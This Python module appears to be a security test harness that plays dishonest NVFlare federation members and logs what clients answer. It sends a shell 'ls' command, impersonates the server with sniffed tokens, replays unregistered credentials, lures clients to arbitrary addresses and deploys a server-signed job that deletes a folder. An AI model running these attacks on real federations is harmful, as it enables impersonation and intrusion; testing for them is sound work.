"""Runs in dishonest members' own processes.

Once a job runs, they send clients the messages that NVFlare's clients answer. Each answer becomes a
line of the file that HOSTILE names.
"""

import json
import os
import socket
import tempfile
import threading
import time
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_constant import AdminCommandNames, FLContextKey, ReservedKey
from nvflare.apis.job_def import JobMetaKey
from nvflare.apis.shareable import ReservedHeaderKey, Shareable
from nvflare.fuel.f3.cellnet.defs import (
    CellChannel,
    CellChannelTopic,
    MessageHeaderKey,
    MessageType,
    ReturnCode,
)
from nvflare.fuel.f3.cellnet.utils import encode_payload
from nvflare.fuel.utils.zip_utils import zip_directory_to_bytes
from nvflare.lighter.utils import load_private_key_file, sign_folders
from nvflare.private.admin_defs import Message
from nvflare.private.defs import (
    CellMessageHeaderKeys,
    RequestHeader,
    SysCommandTopic,
    TrainingTopic,
    new_cell_message,
)
from nvflare.private.fed.client.training_cmds import ClientStatusProcessor

CLIENTS = ("c0", "c2")
TO_CLIENTS = [
    (CellChannel.CLIENT_MAIN, SysCommandTopic.SHELL, Message(SysCommandTopic.SHELL, "ls"))
]
TO_CLIENTS += [
    (CellChannel.CLIENT_MAIN, SysCommandTopic.SYS_INFO, Message(SysCommandTopic.SYS_INFO, ""))
]
TO_JOBS = [
    (CellChannel.CLIENT_COMMAND, AdminCommandNames.SHOW_ERRORS, {}),
    (CellChannel.CLIENT_COMMAND, AdminCommandNames.CONFIGURE_JOB_LOG, "DEBUG"),
]
OF_CELLS = ("process_info", "config_vars", "peers", "cells", "list_pools")
TO_BOTH = [("_net_manager", topic, "rss") for topic in OF_CELLS]


class Server(FLComponent):
    def handle_event(self, event_type, fl_ctx):
        if event_type == EventType.JOB_STARTED:
            job = fl_ctx.get_prop(FLContextKey.EVENT_DATA)[JobMetaKey.JOB_ID.value]
            begun(by_the_server, fl_ctx, job)


class Client(FLComponent):
    def handle_event(self, event_type, fl_ctx):
        if event_type == EventType.AFTER_JOB_LAUNCH:
            begun(
                by_a_client, fl_ctx, fl_ctx.get_prop(FLContextKey.JOB_META)[JobMetaKey.JOB_ID.value]
            )


class Witness(FLComponent):
    """Records at a client what this client processes as a question of the server's."""

    def __init__(self):
        super().__init__()
        process = ClientStatusProcessor.process

        def witnessed(self, request, app_ctx):
            keep("c0", "own", request.topic, "ok", request.body)
            return process(self, request, app_ctx)

        ClientStatusProcessor.process = witnessed


class Poser(FLComponent):
    """Is a client that sends another one questions in the server's name, once it is registered."""

    def handle_event(self, event_type, fl_ctx):
        if event_type == EventType.AFTER_CLIENT_HEARTBEAT and not hasattr(self, "cell"):
            engine = fl_ctx.get_engine()
            self.cell = engine.get_cell()
            threading.Thread(target=posing, args=(self.cell, engine.client), daemon=True).start()


def posing(cell, client) -> None:
    """Poses with its own token, with an old one of its own, and with the server's token.

    Each of the server's messages carries that token.
    """
    seen = {}

    def look(message):
        if message.get_header(MessageHeaderKey.ORIGIN) == "server":
            seen["server"] = tuple(message.get_header(key) for key in CREDENTIALS)

    cell.core_cell.add_incoming_filter(channel="*", topic="*", cb=look)
    there(cell, "c0")
    own = ("c1", client.token, client.token_signature)
    pose(cell, "its own token", own)
    # The server looks at messages in threads, and this one must come before the farewell.
    time.sleep(1.0)
    headers = {CellMessageHeaderKeys.PROJECT_NAME: "fedlens"}
    farewell = Shareable()
    farewell.set_peer_props({ReservedKey.IDENTITY_NAME: "c1"})
    quit_message = new_cell_message(headers, farewell)
    cell.core_cell.send_request(
        CellChannel.SERVER_MAIN, CellChannelTopic.Quit, "server", quit_message, timeout=5.0
    )
    pose(cell, "a token that is not registered", own)
    pose(cell, "the server's token", seen["server"])


CREDENTIALS = (
    CellMessageHeaderKeys.CLIENT_NAME,
    CellMessageHeaderKeys.TOKEN,
    CellMessageHeaderKeys.TOKEN_SIGNATURE,
)


def pose(cell, how: str, credentials: tuple) -> None:
    send_as(
        cell,
        "c0",
        "server",
        Message(TrainingTopic.CHECK_STATUS, how),
        dict(zip(CREDENTIALS, credentials)),
    )


def begun(function, fl_ctx, job: str) -> None:
    threading.Thread(
        target=function, args=(fl_ctx.get_engine().get_cell(), job), daemon=True
    ).start()


def by_the_server(cell, job: str) -> None:
    for client in CLIENTS:
        for message in [*TO_CLIENTS, *TO_BOTH]:
            ask(cell, client, *message)
        keep(client, "own", "another address", "ok" if lured(cell, client) else "nobody came", "")
    for client in CLIENTS:
        there(cell, f"{client}.{job}")
        for message in [*TO_JOBS, *TO_BOTH]:
            ask(cell, f"{client}.{job}", *message)
    for client in CLIENTS:
        ask(cell, client, CellChannel.CLIENT_MAIN, TrainingTopic.DEPLOY, deployed_as("local"))


def by_a_client(cell, job: str) -> None:
    """Sends a task to another client's job process. By `setup` it would become the server there."""
    task = Shareable()
    task.set_header(ReservedHeaderKey.TASK_NAME, "none of ours")
    task.set_peer_props({ReservedKey.RUN_NUM: job, ReservedKey.IDENTITY_NAME: "c1"})
    for client in CLIENTS:
        there(cell, f"{client}.{job}")
        ask(cell, f"{client}.{job}", CellChannel.AUX_COMMUNICATION, "__do_task__", task)


def deployed_as(job: str) -> Message:
    """Returns a message that deploys a job.

    A client first removes the folder of that name. The job is signed, as clients want it, by the
    server's own key.
    """
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, "config").mkdir()
        Path(folder, "config/config_fed_client.json").write_text("{}")
        sign_folders(folder, load_private_key_file("startup/server.key"), "startup/server.crt")
        content = zip_directory_to_bytes(folder, "")
    message = Message(TrainingTopic.DEPLOY, content)
    headers = {
        RequestHeader.JOB_ID: job,
        RequestHeader.JOB_META: {"job_id": job},
        RequestHeader.APP_NAME: "app",
    }
    for name, value in headers.items():
        message.set_header(name, value)
    return message


def lured(cell, client: str) -> bool:
    """Returns whether a client connects to an address that a message from the server names."""
    with socket.create_server(("127.0.0.1", 0)) as waiting:
        address = f"tcp://127.0.0.1:{waiting.getsockname()[1]}"
        send_as(cell, client, "somebody", Message("none", ""), {MessageHeaderKey.CONN_URL: address})
        waiting.settimeout(2.0)
        try:
            waiting.accept()[0].close()
        except TimeoutError:
            return False
        return True


def send_as(cell, client: str, origin: str, content: Message, more: dict) -> None:
    """Sends a question to a client's own process with any origin and headers.

    It passes no filter of the sender's cell.
    """
    message = new_cell_message({}, content)
    sender = cell.core_cell.my_info.fqcn
    headers = {
        MessageHeaderKey.CHANNEL: CellChannel.CLIENT_MAIN,
        MessageHeaderKey.TOPIC: content.topic,
        MessageHeaderKey.FROM_CELL: sender,
        MessageHeaderKey.TO_CELL: client,
        MessageHeaderKey.ORIGIN: origin,
        MessageHeaderKey.DESTINATION: client,
        MessageHeaderKey.REQ_ID: "1",
        MessageHeaderKey.REPLY_EXPECTED: False,
        MessageHeaderKey.MSG_TYPE: MessageType.REQ,
        MessageHeaderKey.ROUTE: [(sender, time.time())],
    }
    message.add_headers(headers | more)
    encode_payload(message)
    cell.core_cell._send_to_endpoint(cell.core_cell._find_endpoint(client, message)[1], message)


def there(cell, target: str) -> None:
    """Waits until a process answers."""
    message = TO_BOTH[0]
    while cell.core_cell.send_request(
        *message[:2], target, new_cell_message({}, message[2]), timeout=5.0
    ).get_header(MessageHeaderKey.RETURN_CODE) in (
        ReturnCode.TARGET_UNREACHABLE,
        ReturnCode.COMM_ERROR,
        ReturnCode.TIMEOUT,
    ):
        time.sleep(0.1)


def ask(cell, target: str, channel: str, topic: str, content) -> None:
    answer = cell.core_cell.send_request(
        channel, topic, target, new_cell_message({}, content), timeout=5.0
    )
    client, _, job = target.partition(".")
    said = str(getattr(answer.payload, "body", answer.payload))
    keep(
        client,
        "job" if job else "own",
        topic,
        answer.get_header(MessageHeaderKey.RETURN_CODE),
        said,
    )


def keep(client: str, process: str, topic: str, code: str, said: str) -> None:
    line = {"client": client, "process": process, "topic": topic, "code": code, "said": said}
    with open(os.environ["HOSTILE"], "a") as file:
        file.write(json.dumps(line) + "\n")
